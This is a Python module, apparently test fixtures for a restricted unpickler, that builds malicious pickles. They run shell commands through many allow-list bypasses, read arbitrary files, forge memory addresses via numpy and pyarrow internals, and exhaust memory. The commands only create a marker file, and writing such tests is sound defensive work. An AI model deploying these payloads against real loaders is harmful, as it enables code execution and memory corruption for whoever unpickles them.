"""Pickles that do harm to whoever loads them: run a command, read a file, follow an address of their own.

In: the path of a file that a successful attack makes, or that one reads. Out: pickles, put together opcode by opcode.
"""

from __future__ import annotations

import pickle
import pickletools
from typing import Any, NamedTuple

_PROTO, _STOP, _MARK, _TUPLE, _REDUCE, _NEWOBJ, _BUILD, _MEMOIZE = (
    b"\x80\x04", b".", b"(", b"t", b"R", b"\x81", b"b", b"\x94",
)  # fmt: skip


class Name(NamedTuple):
    """What is imported."""

    module: str
    name: str


class Dotted(NamedTuple):
    """The same, by an opcode that takes dotted names."""

    module: str
    name: str


class Call(NamedTuple):
    function: Any
    arguments: tuple[Any, ...]


class Made(NamedTuple):
    """By `__new__`."""

    kind: Any
    arguments: tuple[Any, ...] = ()


class Built(NamedTuple):
    """With a state put upon it."""

    target: Any
    state: Any


class Of(NamedTuple):
    """A dictionary of which the values are nodes."""

    items: dict[str, Any]


class Raw(NamedTuple):
    """Opcodes as they are."""

    opcodes: bytes


def pickled(node: Any) -> bytes:
    return _PROTO + _code(node) + _STOP


def _code(node: Any) -> bytes:
    if isinstance(node, Raw):
        return node.opcodes
    if isinstance(node, Name):
        return f"c{node.module}\n{node.name}\n".encode()
    if isinstance(node, Dotted):
        return _value(node.module) + _value(node.name) + b"\x93"
    if isinstance(node, Call):
        return _code(node.function) + _tuple(node.arguments) + _REDUCE + _MEMOIZE
    if isinstance(node, Made):
        return _code(node.kind) + _tuple(node.arguments) + _NEWOBJ + _MEMOIZE
    if isinstance(node, Built):
        return _code(node.target) + _code(node.state) + _BUILD
    if isinstance(node, Of):
        return b"}" + _MARK + b"".join(_value(key) + _code(value) for key, value in node.items.items()) + b"u"
    if type(node) is tuple:
        return _tuple(node)
    if type(node) is list:
        return b"]" + _MARK + b"".join(map(_code, node)) + b"e"
    return _value(node)


def _tuple(nodes: tuple[Any, ...]) -> bytes:
    return _MARK + b"".join(map(_code, nodes)) + _TUPLE


def _value(value: Any) -> bytes:
    """Plain data without its memo, for pieces know nothing of each other, and without the frame around it."""
    made = pickle.dumps(value, protocol=3)
    places = [(opcode.name, place) for opcode, _, place in pickletools.genops(made) if place is not None]
    ends = [place for _, place in places[1:]] + [len(made)]
    kept = [made[place:end] for (name, place), end in zip(places, ends) if "PUT" not in name]
    return b"".join(kept[1:-1])


def commands(marker: str) -> dict[str, bytes]:
    """Each makes the marker, if code may run; by itself, without anything but the standard library."""
    shell = f"touch {marker}"
    source = f"open({marker!r}, 'w').close()"
    system = Name("os", "system")
    getattr_ = Name("builtins", "getattr")
    nodes: dict[str, Any] = {
        "os.system": Call(system, (shell,)),
        "posix.system": Call(Name("posix", "system"), (shell,)),
        "subprocess.call": Call(Name("subprocess", "call"), (["touch", marker],)),
        "builtins.eval": Call(Name("builtins", "eval"), (source,)),
        "builtins.exec": Call(Name("builtins", "exec"), (source,)),
        "builtins.open": Call(Name("builtins", "open"), (marker, "w")),
        "getattr of an import": Call(
            Call(getattr_, (Call(Name("builtins", "__import__"), ("os",)), "system")), (shell,)
        ),
        "importlib": Call(Call(getattr_, (Call(Name("importlib", "import_module"), ("os",)), "system")), (shell,)),
        "operator.methodcaller": Call(
            Call(Name("operator", "methodcaller"), ("system", shell)),
            (Call(Name("importlib", "import_module"), ("os",)),),
        ),
        "operator.attrgetter": Call(
            Call(Call(Name("operator", "attrgetter"), ("system",)), (Call(Name("builtins", "__import__"), ("os",)),)),
            (shell,),
        ),
        "functools.partial": Call(Call(Name("functools", "partial"), (system, shell)), ()),
        "builtins.map": Call(Name("builtins", "list"), (Call(Name("builtins", "map"), (system, [shell])),)),
        "a nested name": Call(Dotted("pathlib", "os.system"), (shell,)),
        "a nested name of an allowed module": Call(Dotted("uuid", "os.system"), (shell,)),
        "a nested name of pandas": Call(Dotted("pandas", "compat.os.system"), (shell,)),
        "a nested name of numpy": Call(Dotted("numpy.lib.format", "os.system"), (shell,)),
        "inst": Raw(b"(" + _value(shell) + b"ios\nsystem\n"),
        "obj": Raw(b"(" + b"cos\nsystem\n" + _value(shell) + b"o"),
        "setstate that is a name": Built(
            Built(Call(Name("types", "SimpleNamespace"), ()), Of({"__setstate__": system})), shell
        ),
        "codecs, then eval": Call(Name("builtins", "eval"), (Call(Name("codecs", "decode"), (source, "rot13")),)),
        "copyreg": Call(
            Name("copyreg", "_reconstructor"), (Name("subprocess", "Popen"), Name("builtins", "object"), None)
        ),
        "code and function": Call(
            Call(
                Name("types", "FunctionType"),
                (Call(Name("builtins", "compile"), (source, "x", "exec")), Of({})),
            ),
            (),
        ),
        "pydoc.pipepager": Call(Name("pydoc", "pipepager"), ("", shell)),
        "timeit": Call(Name("timeit", "timeit"), (source, "", Name("time", "perf_counter"), 1)),
        "numpy's runstring": Call(Name("numpy.testing._private.utils", "runstring"), (source, Of({}))),
        "pandas eval": Call(
            Name("pandas.core.computation.eval", "eval"),
            (f"@pd.compat.os.system('{shell}')", "pandas", "python", None, Of({"pd": 0})),
        ),
        "a persistent id": Raw(_value(shell) + b"Q"),
        "an extension": Raw(b"\x82\x01"),
        "a renamed series": _renamed(marker),
    }
    return {label: pickled(node) for label, node in nodes.items()}


def _renamed(marker: str) -> Any:
    """`rename` calls what it is given for each label of a series."""
    series = Call(Name("pandas", "Series"), ([1], [["touch", marker]]))
    return Call(Call(Name("operator", "methodcaller"), ("rename", Name("subprocess", "Popen"))), (series,))


def readings(secret: str) -> dict[str, bytes]:
    """Each loads what is in a file of somebody's."""
    open_stream = Call(Name("pyarrow.ipc", "open_stream"), (secret,))
    nodes: dict[str, Any] = {
        "pandas.read_pickle": Call(Name("pandas", "read_pickle"), (secret,)),
        "pandas.read_csv": Call(Name("pandas", "read_csv"), (secret,)),
        "polars.read_csv": Call(Name("polars", "read_csv"), (secret,)),
        "polars.scan": Call(Name("polars", "scan_csv"), (secret,)),
        "pyarrow.memory_map": Call(Name("pyarrow", "memory_map"), (secret,)),
        "pyarrow.csv": Call(Name("pyarrow.csv", "read_csv"), (secret,)),
        "numpy.load": Call(Name("numpy", "load"), (secret,)),
        "numpy.fromfile": Call(Name("numpy", "fromfile"), (secret, "u1")),
        "numpy.memmap": Call(Name("numpy", "memmap"), (secret,)),
        "numpy.genfromtxt": Call(Name("numpy", "genfromtxt"), (secret,)),
        "an Arrow stream by its path": Call(Call(Name("operator", "methodcaller"), ("read_all",)), (open_stream,)),
        "a method of a frame": Call(
            Call(Name("operator", "methodcaller"), ("to_csv", secret)), (Call(Name("pandas", "DataFrame"), ([1],)),)
        ),
        "a query of a frame": Call(
            Call(Name("operator", "methodcaller"), ("query", "@pd.compat.os.system('true')")),
            (Call(Name("pandas", "DataFrame"), ([1],)),),
        ),
    }
    return {label: pickled(node) for label, node in nodes.items()}


_OBJECT = Call(Name("numpy", "dtype"), ("O8", False, True))
_ADDRESS = b"\x41" * 8


def addresses() -> dict[str, bytes]:
    """Each makes Python objects of bytes: an address that is followed when the object is looked at."""
    bare = Built(_OBJECT, (3, "|", None, None, None, -1, -1, 0))
    hidden = Built(
        Call(Name("numpy", "dtype"), ("V8", False, True)),
        (3, "|", None, ("f",), Of({"f": (_OBJECT, 0)}), 8, 1, 0),
    )
    buffer = Call(Name("builtins", "bytearray"), (_ADDRESS,))
    fake = Built(Made(Name("pandas", "Int64Dtype")), Of({"hasobject": False, "dtype": _OBJECT}))
    reconstructed = Call(Name("numpy.core.multiarray", "_reconstruct"), (Name("numpy", "ndarray"), (0,), b"b"))
    nodes: dict[str, Any] = {
        "an array of objects over a buffer": Call(Name("numpy", "ndarray"), ((1,), "O", buffer)),
        "a dtype of objects that says it has none": Call(Name("numpy", "ndarray"), ((1,), bare, buffer)),
        "the same, by its state": Built(reconstructed, (1, (1,), bare, False, _ADDRESS)),
        "a field that hides objects": Call(Name("numpy", "ndarray"), ((1,), hidden, buffer)),
        "a field of a dtype that says it has none": Call(
            Name("numpy", "ndarray"), ((1,), Call(Name("numpy", "dtype"), ([("f", bare)],)), buffer)
        ),
        "a scalar": Call(Name("numpy.core.multiarray", "scalar"), (_OBJECT, _ADDRESS)),
        "a scalar of a dtype that says it has none": Call(Name("numpy.core.multiarray", "scalar"), (bare, _ADDRESS)),
        "a scalar of something with a dtype": Call(Name("numpy.core.multiarray", "scalar"), (fake, _ADDRESS)),
        "an array of something with a dtype": Call(Name("numpy", "ndarray"), ((1,), fake, buffer)),
        "numpy.frombuffer": Call(Name("numpy.core.numeric", "_frombuffer"), (buffer, "O", (1,), "C")),
        "ctypes": Call(Name("ctypes", "string_at"), (0x4141414141,)),
        **_beyond_the_bounds(),
        **_arrow_beyond_the_bounds(),
    }
    return {label: pickled(node) for label, node in nodes.items()}


def _beyond_the_bounds() -> dict[str, Any]:
    """Arrays whose elements lie elsewhere than in their bytes."""
    double = Call(Name("numpy", "dtype"), ("f8",))
    void = Call(Name("numpy", "dtype"), ("V8", False, True))
    text = Call(Name("numpy", "dtype"), ("S8", False, True))
    buffer = Call(Name("builtins", "bytearray"), (_ADDRESS,))
    larger = Built(void, (3, "|", (double, (1000,)), None, None, 8, 1, 0))
    holder = (3, "|", None, ("f",), Of({"f": (larger, 0)}), 8, 1, 0)
    far = {"names": ["f"], "formats": ["f8"], "offsets": [2**31 - 1], "itemsize": 8}
    negative = Built(text, (3, "|", None, None, None, -8, 1, 0))
    times = Built(double, (4, "<", None, None, None, -1, -1, 0, (None, (b"ns", 1, 1, 1))))
    reconstructed = Call(Name("numpy.core.multiarray", "_reconstruct"), (Name("numpy", "ndarray"), (0,), b"b"))
    made = Call(Name("numpy", "ndarray"), ((1,), Call(Name("numpy", "dtype"), ("O",))))
    return {
        "a subarray that is larger than its element": Call(Name("numpy", "ndarray"), ((1,), larger, buffer)),
        "the same in a field": Call(Name("numpy", "ndarray"), ((1,), Built(void, holder), buffer)),
        "a negative offset": Call(Name("numpy", "ndarray"), ((1,), double, buffer, -64)),
        "strides": Call(Name("numpy", "ndarray"), ((8,), double, buffer, 0, (0,))),
        "a field at an offset that overflows": Call(
            Name("numpy", "ndarray"), ((1,), Call(Name("numpy", "dtype"), (far,)), buffer)
        ),
        "the same by its state": Call(
            Name("numpy", "ndarray"),
            ((1,), Built(void, (3, "|", None, ("f",), Of({"f": (double, 2**31 - 1)}), 8, 1, 0)), buffer),
        ),
        "elements of less than nothing": Call(Name("numpy", "ndarray"), ((1,), negative, buffer)),
        "the same by a name": Call(Name("numpy", "ndarray"), ((1,), Call(Name("numpy", "dtype"), ("S-8",)), buffer)),
        "objects that are fewer than the shape says": Built(reconstructed, (1, (1000,), _OBJECT, False, [None, "a"])),
        "a shape of negative lengths": Built(reconstructed, (1, (-1, -8), double, False, _ADDRESS)),
        "the memory of another array": Call(Name("numpy", "ndarray"), ((1,), double, made)),
        "times that are floats": Built(
            Made(Name("pandas.core.arrays.datetimes", "DatetimeArray")),
            (Call(Name("numpy", "dtype"), ("M8[ns]",)), Call(Name("numpy", "ndarray"), ((1,), times, buffer))),
        ),
        "an array of pandas that was never made": Call(
            Name("builtins", "list"), (Made(Name("pandas.core.arrays.datetimes", "DatetimeArray")),)
        ),
        "arguments that are no tuple": Raw(
            b"cbuiltins\nlist\n" + _code(Made(Name("pandas.core.arrays.datetimes", "DatetimeArray"))) + _REDUCE
        ),
    }


def _arrow_beyond_the_bounds() -> dict[str, Any]:
    """Arrays of Arrow whose parts its own validation takes for granted."""
    restore = Name("pyarrow.lib", "_restore_array")
    buffer = Call(Name("pyarrow.lib", "py_buffer"), (b"\0" * 64,))
    integers, text = (Call(Name("pyarrow.lib", "type_for_alias"), (name,)) for name in ("int64", "string"))
    numbers: tuple[Any, ...] = (integers, 1, 0, 0, [None, buffer], [], None)
    words: tuple[Any, ...] = (text, 1, 0, 0, [None, buffer, buffer], [], None)
    entry = Call(
        Name("pyarrow.lib", "struct"),
        (
            [
                Call(Name("pyarrow.lib", "field"), ("key", text, False)),
                Call(Name("pyarrow.lib", "field"), ("value", text)),
            ],
        ),
    )
    table = Call(Name("pyarrow.lib", "map_"), (text, text))
    states = {
        "a negative length": (integers, -1, 0, 0, [None, buffer], [], None),
        "a negative start": (integers, 1, 0, -8, [None, buffer], [], None),
        "a missing buffer": (text, 1, 0, 0, [None, buffer], [], None),
        "another inner type": (Call(Name("pyarrow.lib", "list_"), (text,)), 1, 0, 0, [None, buffer], [numbers], None),
        "no inner array": (Call(Name("pyarrow.lib", "list_"), (text,)), 1, 0, 0, [None, buffer], [], None),
        "a map with a null for an entry": (
            table, 1, 0, 0, [None, buffer], [(entry, 1, 1, 0, [None], [words, words], None)], None,
        ),
        "another dictionary": (
            Call(Name("pyarrow.lib", "dictionary"), (integers, text)), 1, 0, 0, [None, buffer], [], numbers,
        ),
    }  # fmt: skip
    return {f"Arrow: {label}": Call(restore, (state,)) for label, state in states.items()}


def exhaustions() -> dict[str, bytes]:
    """Each is small, and makes as much as it likes; here not so much that a failing test fills the memory."""
    counted = Call(Name("builtins", "range"), (10**6,))
    kinds = {kind: Call(Name("builtins", kind), (counted,)) for kind in ("list", "tuple", "set", "frozenset")}
    made = {f"{kind}, made": Made(Name("builtins", kind), (counted,)) for kind in ("tuple", "frozenset")}
    return {label: pickled(node) for label, node in {**kinds, **made}.items()}
